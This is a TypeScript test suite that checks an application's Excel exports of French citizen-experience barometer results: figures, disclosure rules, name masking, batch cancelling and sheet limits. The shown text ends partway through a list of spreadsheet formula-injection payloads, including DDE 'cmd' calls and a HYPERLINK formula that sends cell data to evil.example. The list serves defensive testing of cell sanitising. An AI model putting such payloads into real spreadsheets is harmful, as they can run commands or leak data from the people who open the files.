/**
 * The Excel deliverables written for real and read back with independent readers: SheetJS for the
 * values and number formats, JSZip for the raw parts (formulas, frozen panes, autofilter, print
 * titles, document properties). Every figure is compared with the analytics service's own answer.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import JSZip from 'jszip';
import { buildFixture } from './export-fixture.js';
import type { Fixture } from './export-fixture.js';
import {
  categoryRankings, disclosedGroupScores, refreshAggregates, disclosureRule, discloseGroupRow, groupScores, headlineIndicators, peerBenchmark, trends, winners,
} from '../../main/analytics/index.js';
import { failedItems } from '../../main/explorer/failed-items.js';
import { writeBarometerTables } from '../../main/export/barometer-tables.js';
import { buildStructureExportContext, peerRows, structureTrends, structureWorkbookSpec, writeStructureWorkbook } from '../../main/export/structure-workbook.js';
import { readCache } from '../../main/analytics/cache-read.js';
import { buildReportContext, buildReportModel } from '../../main/report/report-model.js';
import { exportStructureWorkbooks } from '../../main/export/batch.js';
import { writeWorkbook } from '../../main/export/workbook-kit.js';
import { TRUNCATION_MARKER, writeCsv } from '../../main/export/safe-cells.js';

type Row = unknown[];

function readBook(file: string): XLSX.WorkBook {
  return XLSX.read(fs.readFileSync(file), { cellStyles: true, cellNF: true, cellDates: false });
}

function rowsOf(wb: XLSX.WorkBook, sheet: string): Row[] {
  const ws = wb.Sheets[sheet];
  if (!ws) throw new Error(`no sheet ${sheet}`);
  return XLSX.utils.sheet_to_json<Row>(ws, { header: 1, raw: true, defval: null, blankrows: true });
}

/** The rows of the table whose header row starts with `firstHeader`, up to the first empty row. */
function table(wb: XLSX.WorkBook, sheet: string, firstHeader: string): { header: Row; rows: Row[]; headerIndex: number } {
  const all = rowsOf(wb, sheet);
  const headerIndex = all.findIndex((r) => r[0] === firstHeader);
  if (headerIndex < 0) throw new Error(`no header ${firstHeader} in ${sheet}`);
  const rows: Row[] = [];
  for (let i = headerIndex + 1; i < all.length; i += 1) {
    const r = all[i] as Row;
    if (r.every((c) => c === null || c === '')) break;
    rows.push(r);
  }
  return { header: all[headerIndex] as Row, rows, headerIndex };
}

async function zipParts(file: string): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const out = new Map<string, string>();
  for (const name of Object.keys(zip.files)) {
    const entry = zip.files[name];
    if (entry && !entry.dir) out.set(name, await entry.async('string'));
  }
  return out;
}

const close = (a: unknown, b: number | null): void => {
  if (b === null) expect(a === null || a === undefined || a === '').toBe(true);
  else expect(a as number).toBeCloseTo(b, 9);
};

// Distinct names, none a substring of another, so a hit is a real leak.
const NAMES = [
  'Alphaville', 'Bétacourt', 'Gammabourg', 'Deltaport', 'Epsilonne', 'Zétamont',
  'Ètaville-sur-Mer', 'Thétaplage', 'Iotaval',
  'Kappafort', 'Lambdacourt', 'Mumont', 'Nuvillers',
  'Société Xi', 'Omicron SA', 'Pi Services', 'Rhô Assurances',
];

describe('Excel deliverables', () => {
  let fx: Fixture;
  let out: string;

  beforeAll(() => {
    fx = buildFixture({ names: NAMES });
    out = path.join(fx.dir, 'out');
  });
  afterAll(() => fx.cleanup());

  describe('barometer tables', () => {
    let file: string;
    let wb: XLSX.WorkBook;
    let sheets: string[];

    beforeAll(async () => {
      const r = await writeBarometerTables(fx.db, { edition: 2023, outFile: path.join(out, 'tables.xlsx') });
      file = r.file;
      sheets = r.sheets;
      wb = readBook(file);
    });

    it('has the sheets of issue 5, in order (golden), and English names with lang en', async () => {
      expect(wb.SheetNames).toEqual(['Messages clés', 'Synthèse', 'Lauréats', 'Étapes', 'Canaux', 'Déterminants', 'Détail des scores', 'Distribution', 'Tendances', 'Comparaisons', 'Méthode']);
      expect(sheets).toEqual(wb.SheetNames);
      const en = await writeBarometerTables(fx.db, { edition: 2023, lang: 'en', outFile: path.join(out, 'tables-en.xlsx') });
      expect(readBook(en.file).SheetNames).toEqual(['Key messages', 'Summary', 'Winners', 'Steps', 'Channels', 'Determinants', 'Score detail', 'Distribution', 'Trends', 'Comparisons', 'Method']);
      expect(table(readBook(en.file), 'Steps', 'Category or group').header).toEqual(['Category or group', 'Access', 'Information / orientation', 'Processing of the request']);
      expect(table(readBook(en.file), 'Score detail', 'Level').header.slice(0, 5)).toEqual(['Level', 'Group type', 'Group', 'Label', 'Score (all observations)']);
    });

    it('golden headers', () => {
      expect(table(wb, 'Synthèse', 'Type de groupe').header).toEqual([
        'Type de groupe', 'Groupe', 'Participants', 'Audits', 'Observations', 'Score (ensemble des observations)', 'Moyenne', 'Médiane', 'Minimum', 'Maximum',
      ]);
      expect(table(wb, 'Lauréats', 'Catégorie').header).toEqual([
        'Catégorie', 'Lauréat', 'Code', 'Score du lauréat', 'Participants', 'Score du second', 'Écart (points)', 'Départagé par',
      ]);
      expect(table(wb, 'Étapes', 'Catégorie ou groupe').header).toEqual(['Catégorie ou groupe', 'Accès', 'Information / orientation', 'Traitement de la demande']);
      expect(table(wb, 'Déterminants', 'Déterminant').header.slice(0, 2)).toEqual(['Déterminant', 'Villes de plus de 50 000 habitants']);
      expect(table(wb, 'Détail des scores', 'Niveau').header).toEqual([
        'Niveau', 'Type de groupe', 'Groupe', 'Libellé', 'Score (ensemble des observations)', 'n (structures notées)', 'Moyenne', 'Médiane', '1er quartile', '3e quartile', 'Minimum', 'Maximum',
      ]);
      expect(table(wb, 'Tendances', 'Périmètre').header).toEqual([
        'Périmètre', 'Niveau', 'Libellé', 'Score 2022', 'Structures 2022', 'Audits 2022', 'Score 2023', 'Structures 2023', 'Audits 2023',
        'Même panel 2022→2023 : score 2022', 'Même panel 2022→2023 : score 2023', 'Évolution 2022→2023, même panel (points)', 'Lecture 2022→2023',
      ]);
      expect(table(wb, 'Distribution', 'Type de groupe').header.slice(0, 11)).toEqual([
        'Type de groupe', 'Groupe', 'n (structures notées)', 'Minimum', '1er quartile', 'Médiane', '3e quartile', 'Maximum', 'Moyenne', 'Écart interquartile', 'Étendue',
      ]);
    });

    it('Synthèse figures equal the analytics service (categories, sectors, edition), as disclosed', () => {
      const expected = [
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'category', level: 'overall' }),
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'sector', level: 'overall' }),
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'edition', level: 'overall' }),
      ];
      // The fixture's categories (3 to 6 structures) are too small for a distribution; the public sector is not.
      expect(expected.some((g) => g.median !== null)).toBe(true);
      expect(expected.some((g) => g.suppressed === 'group-too-small')).toBe(true);
      const { rows } = table(wb, 'Synthèse', 'Type de groupe');
      expect(rows).toHaveLength(expected.length);
      expected.forEach((g, i) => {
        const r = rows[i] as Row;
        expect(r[1]).toBe(g.groupLabel);
        expect(r[2] ?? null).toBe(g.n === null ? null : g.structures);
        expect(r[3]).toBe(g.audits);
        expect(r[4]).toBe(g.observations);
        close(r[5], g.score);
        close(r[6], g.mean);
        close(r[7], g.median);
        close(r[8], g.min);
        close(r[9], g.max);
      });
    });

    it('headline indicators are the service figures, as 0–1 numbers formatted as percentages', () => {
      const { rows, headerIndex } = table(wb, 'Synthèse', 'Indicateur');
      const head = headlineIndicators(fx.db, { edition: 2023 });
      for (const item of ['MEL-01', 'MEL-02']) {
        const r = rows.find((x) => x[1] === item) as Row;
        const pub = head.find((h) => h.item === item && h.group === 'public');
        const priv = head.find((h) => h.item === item && h.group === 'prive');
        close(r[2], (pub?.rate ?? 0) / 100);
        expect(r[3]).toBe(pub?.audits);
        close(r[4], (priv?.rate ?? 0) / 100);
        expect(r[5]).toBe(priv?.audits);
      }
      const cell = wb.Sheets['Synthèse']?.[XLSX.utils.encode_cell({ r: headerIndex + 1, c: 2 })] as XLSX.CellObject;
      expect(cell.t).toBe('n');
      expect(String(cell.z)).toContain('%');
      expect(cell.v as number).toBeLessThanOrEqual(1);
    });

    it('Lauréats: winners, runner-up scores and the tie-break rule', () => {
      const expected = winners(fx.db, { edition: 2023 });
      const rankings = categoryRankings(fx.db, { edition: 2023 });
      const { rows } = table(wb, 'Lauréats', 'Catégorie');
      expect(rows).toHaveLength(expected.length);
      expected.forEach((w, i) => {
        const r = rows[i] as Row;
        expect(r[1]).toBe(w.name);
        expect(r[2]).toBe(w.structure);
        close(r[3], w.score);
        expect(r[4]).toBe(w.participants);
        // The runner-up's score goes with the winner's: withheld in a category under 11 structures.
        close(r[5], w.score === null ? null : rankings.find((k) => k.category === w.category)?.entries[1]?.score ?? null);
      });
      const all = rowsOf(wb, 'Lauréats').flat().join(' ');
      expect(all).toContain('Règle de départage');
      // Only winners are named: a non-winning public structure never appears.
      const winnerNames = new Set(expected.map((w) => w.name));
      for (const name of NAMES.filter((n) => !winnerNames.has(n))) expect(all).not.toContain(name);
    });

    it('Détail des scores: every group × step, channel, determinant equals disclosedGroupScores', () => {
      const { rows } = table(wb, 'Détail des scores', 'Niveau');
      const expected = (['step', 'channel', 'determinant'] as const).flatMap((level) => [
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'category', level }),
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'sector', level }),
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'edition', level }),
      ]);
      expect(rows).toHaveLength(expected.length);
      expected.forEach((g, i) => {
        const r = rows[i] as Row;
        expect(r[3]).toBe(g.label);
        // A withheld pooled score prints "—"; a score-less set stays empty.
        if (g.score === null && g.withheld.includes('score')) expect(r[4]).toBe('—');
        else close(r[4], g.score);
        expect(r[5] ?? null).toBe(g.n);
        close(r[6], g.mean);
        close(r[7], g.median);
        close(r[8], g.q1);
        close(r[9], g.q3);
        close(r[10], g.min);
        close(r[11], g.max);
      });
    });

    it('Distribution: quartiles and spread per group; band counts add up to n, withheld with the quartiles', () => {
      const expected = [
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'category', level: 'overall' }),
        ...disclosedGroupScores(fx.db, { edition: 2023, kind: 'sector', level: 'overall' }),
      ];
      const { rows } = table(wb, 'Distribution', 'Type de groupe');
      let shownGroups = 0;
      expected.forEach((g, i) => {
        const r = rows[i] as Row;
        expect(r[2] ?? null).toBe(g.n);
        close(r[4], g.q1);
        close(r[5], g.median);
        close(r[6], g.q3);
        if (g.median === null) {
          expect(r.slice(9).every((v) => v === null || v === undefined || v === '')).toBe(true);
          return;
        }
        shownGroups += 1;
        close(r[9], g.q3! - g.q1!);
        close(r[10], g.max! - g.min!);
        expect((r.slice(11) as number[]).reduce((a, b) => a + b, 0)).toBe(g.n);
      });
      expect(shownGroups).toBeGreaterThan(0);
    });

    it('Tendances: edition-wide series with comparability, equal to trends()', () => {
      const t = trends(fx.db, { scope: { kind: 'edition', code: '' }, level: 'channel', editions: [2022, 2023] });
      const { rows } = table(wb, 'Tendances', 'Périmètre');
      for (const s of t.series) {
        const r = rows.find((x) => x[0] === 'Ensemble des structures' && x[1] === 'Canal' && x[2] === s.label) as Row;
        // Each edition's value with its base (structures, audits), then the same panel's scores, the change and its reading.
        close(r[3], s.points[0]?.score ?? null);
        expect([r[4], r[5]]).toEqual([s.points[0]?.structures, s.points[0]?.audits]);
        close(r[6], s.points[1]?.score ?? null);
        expect([r[7], r[8]]).toEqual([s.points[1]?.structures, s.points[1]?.audits]);
        const c = s.comparisons[0]!;
        close(r[9], c.panel?.from ?? null);
        close(r[10], c.panel?.to ?? null);
        close(r[11], c.delta);
        if (c.comparable) expect(r[12]).toBe(`Même panel : ${c.panel?.structures} structures`);
        else expect(String(r[12])).toMatch(/^Non comparable : .*TEL-01/);
      }
      // The fixture's 2023 revision reweights TEL-01: the telephone channel is flagged, email is not.
      expect(t.series.find((s) => s.key === 'telephone')?.comparisons[0]?.comparable).toBe(false);
      expect(t.series.find((s) => s.key === 'email')?.comparisons[0]?.comparable).toBe(true);
    });

    it('Méthode: method, counts, active sources with hashes (not undone ones), generation date', () => {
      const text = rowsOf(wb, 'Méthode').flat().filter((c) => c !== null).map(String).join('\n');
      expect(text).toContain('QUARTILE.INC');
      expect(text).toContain('Règle de départage');
      expect(text).toContain('resultats-2023.xlsx');
      expect(text).toContain('ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56abcd');
      expect(text).not.toContain('ancien-fichier-annule.xlsx');
      expect(text).toMatch(/\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}/);
      const audits = fx.db.prepare('SELECT COUNT(*) FROM audit WHERE edition = 2023').pluck().get() as number;
      expect(rowsOf(wb, 'Méthode').find((r) => r[0] === 'Audits')?.[1]).toBe(audits);
    });

    it('is formatted: number formats, frozen header, autofilter, colour scales, print setup, properties', async () => {
      const parts = await zipParts(file);
      const workbookXml = parts.get('xl/workbook.xml') ?? '';
      expect(workbookXml).toContain('_xlnm.Print_Titles');
      const styles = parts.get('xl/styles.xml') ?? '';
      expect(styles).toContain('formatCode="0.0"');
      expect(styles).toContain('formatCode="0.0 %"');
      // sheet2: the Synthèse table (sheet1 is the key-messages page).
      const sheet1 = parts.get('xl/worksheets/sheet2.xml') ?? '';
      expect(sheet1).toMatch(/<pane [^>]*state="frozen"/);
      expect(sheet1).toMatch(/<autoFilter ref="A\d+:J\d+"/);
      expect(sheet1).toContain('<colorScale>');
      expect(sheet1).toMatch(/<pageSetup [^>]*orientation="landscape"/);
      expect(sheet1).toMatch(/<pageSetup [^>]*fitToHeight="0"/);
      expect(sheet1).toMatch(/<oddFooter>[^<]*Page &amp;P \/ &amp;N/);
      const core = parts.get('docProps/core.xml') ?? '';
      expect(core).toContain('Baromètre Expérience Citoyen 2023');
      expect(core).toContain('<dc:creator>Baromètre Expérience Citoyen</dc:creator>');
      expect(core).toContain('édition 2023');
      // SheetJS sees the score format on a score cell too.
      const { headerIndex } = table(wb, 'Synthèse', 'Type de groupe');
      const score = wb.Sheets['Synthèse']?.[XLSX.utils.encode_cell({ r: headerIndex + 1, c: 5 })] as XLSX.CellObject;
      expect(score.t).toBe('n');
      expect(score.z).toBe('0.0');
    });
  });

  describe('structure workbook', () => {
    it('figures equal peerBenchmark at every level; rank and percentile; private panel', async () => {
      const code = fx.structures[1]!.code; // a city over 50k: 5 other structures
      const r = await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'one.xlsx') });
      expect(r.sheets).toEqual(['Synthèse', 'Plan d’action', 'Lisez-moi', 'Scores par niveau', 'Critères', 'Évolution', 'Points à améliorer', 'Constats d’audit']);
      const wb = readBook(r.file);
      const peers = peerBenchmark(fx.db, { edition: 2023, structure: code });
      // A public structure is not a member of the private panel: all its members are "others".
      const panel = groupScores(fx.db, { edition: 2023, kind: 'category', code: 'panel-prive' }).map((g) => discloseGroupRow(g, disclosureRule(fx.db), false));
      const { rows, header } = table(wb, 'Scores par niveau', 'Niveau');
      expect(header).toEqual(['Niveau', 'Libellé', 'Votre score', 'Rang dans la catégorie', 'Centile', 'Structures de la catégorie (n)', 'Médiane',
        '1er quartile', '3e quartile', 'Meilleur score', 'Écart à la médiane (points)', 'Panel privé : médiane', 'Panel privé : score', 'Remarque']);
      const levels = peers.filter((p) => p.level !== 'item');
      expect(rows).toHaveLength(levels.length);
      levels.forEach((p, i) => {
        const row = rows[i] as Row;
        expect(row[1]).toBe(p.label);
        close(row[2], p.score);
        expect(row[3] ?? null).toBe(p.rank);
        close(row[4], p.percentile === null ? null : p.percentile / 100);
        expect(row[5] ?? null).toBe(p.n);
        close(row[6], p.median);
        close(row[7], p.q1);
        close(row[8], p.q3);
        close(row[9], p.max);
        const pp = panel.find((g) => g.level === p.level && g.key === p.key);
        close(row[11], pp?.median ?? null);
        close(row[12], pp?.score ?? null);
      });
      const items = table(wb, 'Critères', 'Code').rows;
      const itemPeers = peers.filter((p) => p.level === 'item');
      expect(items.map((x) => x[0])).toEqual(itemPeers.map((p) => p.key));
      itemPeers.forEach((p, i) => close(items[i]?.[3], p.score));
      // Trend: equal to trends() for the structure.
      const t = trends(fx.db, { scope: { kind: 'structure', code }, level: 'overall', editions: [2022, 2023] });
      const trendRow = table(wb, 'Évolution', 'Niveau').rows[0] as Row;
      close(trendRow[2], t.series[0]?.points[0]?.score ?? null);
      expect(trendRow[3]).toBe(t.series[0]?.points[0]?.audits);
      close(trendRow[4], t.series[0]?.points[1]?.score ?? null);
      expect(trendRow[5]).toBe(t.series[0]?.points[1]?.audits);
      close(trendRow[6], t.series[0]?.comparisons[0]?.delta ?? null);
    });

    it('failed items equal the Fiche structure service for every structure (aggregates path)', async () => {
      const ctx = buildStructureExportContext(fx.db, { edition: 2023 });
      for (const s of fx.structures) {
        const spec = structureWorkbookSpec(fx.db, ctx, { structure: s.code });
        const sheet = spec.sheets.find((x) => x.name === 'Points à améliorer');
        if (sheet?.kind !== 'table') throw new Error('missing sheet');
        const expected = failedItems(fx.db, { code: s.code, edition: 2023, limit: 15 });
        expect(sheet.rows.map((r) => r[0])).toEqual(expected.map((f) => f.item));
        sheet.rows.forEach((r, i) => {
          const f = expected[i]!;
          expect(r[5]).toBe(f.applicable);
          expect(r[6]).toBe(f.failed);
          close(r[7], f.failureRate / 100);
          if (r[8] !== 'Repère non diffusé') close(r[8], f.peersFailureRate === null ? null : f.peersFailureRate / 100);
        });
      }
    });

    it('the batch peer path equals peerBenchmark() for every structure, in both languages', () => {
      for (const lang of ['fr', 'en'] as const) {
        const ctx = buildStructureExportContext(fx.db, { edition: 2023, lang });
        for (const s of fx.structures) {
          const mine = peerRows(fx.db, ctx, readCache(fx.db, { edition: 2023, structure: s.code }));
          const expected = peerBenchmark(fx.db, { edition: 2023, structure: s.code, lang });
          expect(mine.length).toBeGreaterThan(10);
          expect(mine).toEqual(expected);
        }
      }
    });

    it('the batch trend path equals trends() for every structure and level', () => {
      const ctx = buildStructureExportContext(fx.db, { edition: 2023 });
      for (const s of fx.structures) {
        const mine = structureTrends(fx.db, ctx, s.code);
        for (const r of mine) {
          const expected = trends(fx.db, { scope: { kind: 'structure', code: s.code }, level: r.level, editions: [2022, 2023] });
          expect(r.series.length).toBeGreaterThan(0);
          expect({ ...r, scopeLabel: '' }).toEqual({ ...expected, scopeLabel: '' });
        }
      }
    });

    it('withholds what the disclosure rule withholds, with a note and the rule in the Lisez-moi', async () => {
      const small = fx.structures.find((s) => s.category === 'ville-20k-50k')!; // 2 other structures
      const r = await writeStructureWorkbook(fx.db, { structure: small.code, edition: 2023, outFile: path.join(out, 'small.xlsx') });
      const wb = readBook(r.file);
      const { rows } = table(wb, 'Scores par niveau', 'Niveau');
      for (const row of rows) {
        expect(row[3] ?? null).toBeNull(); // rank
        expect(row[4] ?? null).toBeNull(); // percentile
        expect(row[5] ?? null).toBeNull(); // n: under 3 others
        expect(row[6] ?? null).toBeNull(); // median
        expect(row[9] ?? null).toBeNull(); // best
        expect(row[13]).toBe('Repère non diffusé');
      }
      const text = rowsOf(wb, 'Scores par niveau').flat().join(' ');
      expect(text).toContain('Repères non diffusés');
      expect(rowsOf(wb, 'Lisez-moi').flat().join(' ')).toContain('Règle de confidentialité : la moyenne et le nombre de structures ne sont publiés qu\'à partir de 3 autres structures');
      for (const row of table(wb, 'Points à améliorer', 'Code').rows) expect(row[8]).toBe('Repère non diffusé');
      // A city over 50k has 5 others: the mean and n are shown, the median and rank are not.
      const mid = await writeStructureWorkbook(fx.db, { structure: fx.structures[1]!.code, edition: 2023, outFile: path.join(out, 'mid.xlsx') });
      const overall = table(readBook(mid.file), 'Scores par niveau', 'Niveau').rows[0] as Row;
      expect(overall[5]).toBe(6);
      expect(overall[3] ?? null).toBeNull();
      expect(overall[6] ?? null).toBeNull();
    });

    it('opens with the PDF report\'s summary (two chart pictures) and action plan, figures read from the report model', async () => {
      const ctx = buildReportContext(fx.db, { edition: 2023 });
      const mid = fx.structures[1]!; // 5 other structures: mean shown, median and rank withheld
      const small = fx.structures.find((s) => s.category === 'ville-20k-50k')!; // 2 others: category benchmark withheld
      for (const s of [mid, small]) {
        const r = await writeStructureWorkbook(fx.db, { structure: s.code, edition: 2023, outFile: path.join(out, `twin-${s.code}.xlsx`) });
        const model = buildReportModel(fx.db, ctx, { structure: s.code });
        const wb = readBook(r.file);
        expect(wb.SheetNames.slice(0, 2)).toEqual(['Synthèse', 'Plan d’action']);

        // The key-figure tiles: values over labels, five tiles of two merged columns each.
        const summary = rowsOf(wb, 'Synthèse');
        const labelRow = summary.findIndex((row) => row[0] === 'Score global (sur 100)');
        const tiles = summary[labelRow - 1] as Row;
        close(tiles[0], model.summary.score);
        expect(tiles[2]).toBe('—'); // rank: fewer than 10 others in both categories
        for (const [col, gap] of [[4, model.summary.gapToCategory], [6, model.summary.gapToPrivate]] as const) {
          if (gap === null) expect(tiles[col]).toBe('—');
          else close(tiles[col], gap);
        }
        const text = summary.flat().filter((c) => typeof c === 'string').join('\n');
        expect(text).toContain(`Confidentiel — ${s.name}`);
        expect(text).toContain('Rang et percentile non diffusés : ils demandent au moins 10 autres structures notées dans la catégorie.');
        if (s === small) {
          expect(model.summary.gapToCategory).toBeNull();
          expect(text).toContain('Repère de la catégorie non diffusé : moins de 3 autres structures notées.');
        } else {
          expect(model.summary.gapToCategory).not.toBeNull();
        }
        // The step table, row for row from the model.
        const steps = table(wb, 'Synthèse', 'Étape').rows.slice(0, model.steps.length);
        model.steps.forEach((step, i) => {
          expect(steps[i]?.[0]).toBe(step.label);
          close(steps[i]?.[2], step.score);
        });

        // Two pictures (radar, quartile bar), real PNG files.
        const zip = await JSZip.loadAsync(fs.readFileSync(r.file));
        const media = Object.keys(zip.files).filter((f) => /^xl\/media\/[^/]+\.png$/.test(f));
        expect(media).toHaveLength(2);
        for (const f of media) expect([...(await zip.file(f)!.async('uint8array')).slice(0, 4)]).toEqual([0x89, 0x50, 0x4e, 0x47]);

        // The action plan: the model's rows, in its order, with the two columns to fill in.
        const plan = table(wb, 'Plan d’action', 'N°');
        expect(plan.header).toEqual(['N°', 'Code', 'Libellé', 'Canal', 'Étape', 'Déterminant', 'Pondération', 'Audits concernés', 'Audits non conformes',
          'Taux d\'échec', 'Taux d\'échec de la catégorie', 'Écart à la catégorie (points)', 'Priorité (× 100)', 'Petite base', 'Responsable', 'Échéance']);
        expect(model.actionPlan.length).toBeGreaterThan(0);
        const rows = plan.rows.slice(0, model.actionPlan.length);
        expect(rows.map((x) => x[1])).toEqual(model.actionPlan.map((p) => p.item));
        model.actionPlan.forEach((p, i) => {
          const row = rows[i] as Row;
          expect(row[0]).toBe(i + 1);
          expect(row[2]).toBe(p.label);
          expect(row[3]).toBe(p.channelLabel);
          expect(row[6]).toBe(p.weight);
          expect(row[7]).toBe(p.applicable);
          expect(row[8]).toBe(p.failed);
          close(row[9], p.failureRate / 100);
          if (p.categoryWithheld) expect(row[10]).toBe('Non diffusé');
          else if (p.categoryFailureRate === null) expect(row[10]).toBe('—');
          else close(row[10], p.categoryFailureRate / 100);
          close(row[11], p.gap);
          close(row[12], 100 * p.priority);
          expect(row[13] ?? null).toBe(p.smallBase ? 'Oui' : null);
          expect(row[14] ?? null).toBeNull();
          expect(row[15] ?? null).toBeNull();
        });
        // Ranked by priority, as the PDF.
        for (let i = 1; i < rows.length; i += 1) expect(rows[i]?.[12] as number).toBeLessThanOrEqual(rows[i - 1]?.[12] as number);
        if (s === small) expect(rows.every((x) => x[10] === 'Non diffusé')).toBe(true);
      }
    });

    it('masks personal names in comments by default, keeps them with keepNames', async () => {
      const code = fx.structures[0]!.code;
      const masked = readBook((await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'masked.xlsx') })).file);
      const kept = readBook((await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'kept.xlsx'), keepNames: true })).file);
      const textOf = (wb: XLSX.WorkBook): string => rowsOf(wb, 'Constats d’audit').flat().filter((c) => typeof c === 'string').join('\n');
      expect(textOf(masked)).not.toMatch(/Dupont|Le Goff|Martin|Jean-Pierre/);
      expect(textOf(masked)).toMatch(/Mme \[nom\]|M\. \[nom\]|Monsieur \[nom\]/);
      expect(textOf(kept)).toMatch(/Mme Dupont|Jean-Pierre Le Goff|Monsieur Martin/);
      // The kept copy says, in the file itself, that it is for internal use only.
      const everything = (wb: XLSX.WorkBook): string => wb.SheetNames.flatMap((name) => rowsOf(wb, name).flat()).filter((c) => typeof c === 'string').join('\n');
      expect(everything(kept)).toContain('Usage interne : les noms, téléphones et courriels des commentaires ne sont pas masqués');
      expect(everything(masked)).not.toContain('Usage interne');
    });

    it('names no other participant in any part of the file (cells, sheets, properties, defined names)', async () => {
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: path.join(out, 'all') });
      expect(result.count).toBe(fx.structures.length);
      for (const [i, s] of fx.structures.entries()) {
        const file = result.files[i]!;
        expect(path.basename(file).startsWith(`${s.code}-`)).toBe(true);
        const parts = await zipParts(file);
        expect(parts.size).toBeGreaterThan(5);
        expect([...parts.keys()]).toContain('docProps/core.xml');
        let ownHits = 0;
        for (const [part, xml] of parts) {
          if (xml.includes(s.name)) ownHits += 1;
          for (const other of fx.structures) {
            if (other.code === s.code) continue;
            if (xml.includes(other.name) || xml.includes(other.code)) throw new Error(`${path.basename(file)} ${part} names ${other.code} ${other.name}`);
          }
        }
        expect(ownHits).toBeGreaterThan(0); // the scan does see names
      }
    });
  });

  describe('batch', () => {
    it('reports progress and stops between files on cancel, leaving no temporary or partial file', async () => {
      const dir = path.join(out, 'cancel');
      const seen: number[] = [];
      let stop = false;
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: dir }, {
        onProgress: (p) => {
          seen.push(p.done);
          expect(p.total).toBe(fx.structures.length);
          if (p.done === 3) stop = true;
        },
        cancel: () => stop,
      });
      expect(result.cancelled).toBe(true);
      expect(result.count).toBe(3);
      expect(seen).toEqual([1, 2, 3]);
      const left = fs.readdirSync(dir);
      expect(left.sort()).toEqual(result.files.map((f) => path.basename(f)).sort());
      for (const f of result.files) expect(readBook(f).SheetNames).toContain('Lisez-moi');
    });

    it('deletes the temporary file when cancelled while a workbook is being written', async () => {
      const dir = path.join(out, 'cancel-mid');
      let polls = 0;
      // First poll (before file 1) says go, second poll (after writing file 1, before its rename) says stop.
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: dir }, { cancel: () => (polls += 1) > 1 });
      expect(result).toMatchObject({ cancelled: true, count: 0 });
      expect(fs.readdirSync(dir)).toEqual([]);
    });

    it('opens its own connection from a path (worker thread) and honours an AbortSignal', async () => {
      const controller = new AbortController();
      const result = await exportStructureWorkbooks(fx.file, { edition: 2023, outDir: path.join(out, 'by-path'), codes: [fx.structures[0]!.code, fx.structures[2]!.code] }, {
        cancel: controller.signal,
        onProgress: () => controller.abort(),
      });
      expect(result).toMatchObject({ count: 1, total: 2, cancelled: true });
    });
  });

  describe('kit limits', () => {
    it('splits a table over the row limit into numbered sheets and says so', async () => {
      const file = path.join(out, 'split.xlsx');
      const rows = Array.from({ length: 50 }, (_, i) => [`ligne ${i + 1}`, i + 1]);
      const r = await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [{ kind: 'table', name: 'Observations', title: 'Observations', columns: [{ header: 'Nom' }, { header: 'N', kind: 'int' }], rows }],
      }, { maxRowsPerSheet: 20 });
      expect(r.sheets.length).toBeGreaterThan(2);
      expect(r.sheets[0]).toBe('Observations');
      expect(r.sheets[1]).toBe('Observations (2)');
      const wb = readBook(file);
      const all: Row[] = [];
      for (const name of r.sheets) {
        const t = rowsOf(wb, name);
        expect(t.length).toBeLessThanOrEqual(20);
        expect(t.flat().join(' ')).toContain('Table trop longue pour une seule feuille');
        all.push(...table(wb, name, 'Nom').rows);
      }
      expect(all.map((x) => x[1])).toEqual(rows.map((x) => x[1]));
    });

    it('truncates cells over 32,767 characters with a visible marker', async () => {
      const file = path.join(out, 'long.xlsx');
      await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [{ kind: 'table', name: 'Long', title: 'Long', columns: [{ header: 'Texte', kind: 'wrap' }], rows: [['é'.repeat(40_000)]] }],
      });
      const cell = table(readBook(file), 'Long', 'Texte').rows[0]?.[0] as string;
      expect(cell.length).toBe(32_767);
      expect(cell.endsWith(TRUNCATION_MARKER)).toBe(true);
    });

    it('sanitises and de-duplicates sheet names', async () => {
      const file = path.join(out, 'names.xlsx');
      const sheet = (name: string) => ({ kind: 'table' as const, name, title: name, columns: [{ header: 'A' }], rows: [['x']] });
      const r = await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [sheet('Scores: 2023/2024 [brut]?*'), sheet('Une feuille au nom beaucoup trop long pour Excel'), sheet('Une feuille au nom beaucoup trop long pour Excel')],
      });
      expect(readBook(file).SheetNames).toEqual(r.sheets);
      for (const name of r.sheets) {
        expect(name.length).toBeLessThanOrEqual(31);
        expect(name).not.toMatch(/[:\\/?*[\]]/);
      }
      expect(new Set(r.sheets).size).toBe(3);
    });
  });
});

describe('injection payloads through names and comments', () => {
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", '-2+3', '@SUM(A1:A2)',
    '\t=1+1', '\r=1+1', '=1+1', '+1', '-1', '@A1', '=DDE("cmd";"/C calc";"A0")', '=IMPORTXML("http://x";"//a")', '=WEBSERVICE("http://x")',
    "=2+5+cmd|' /C calc'!A0", '=SUM(1;2)', "='C:\\Windows\\[x.xls]Sheet1'!A1", '=INDIRECT("A1")', '=1/0', '= 1', '+-1', '-=1', '@=1',
    '=A1&"x"', '=CONCATENATE("a";"b")', '=EXEC("calc")', '=SYSTEM("calc")', '=RAND()', '=NOW()', '=TODAY()', '=ROW()',
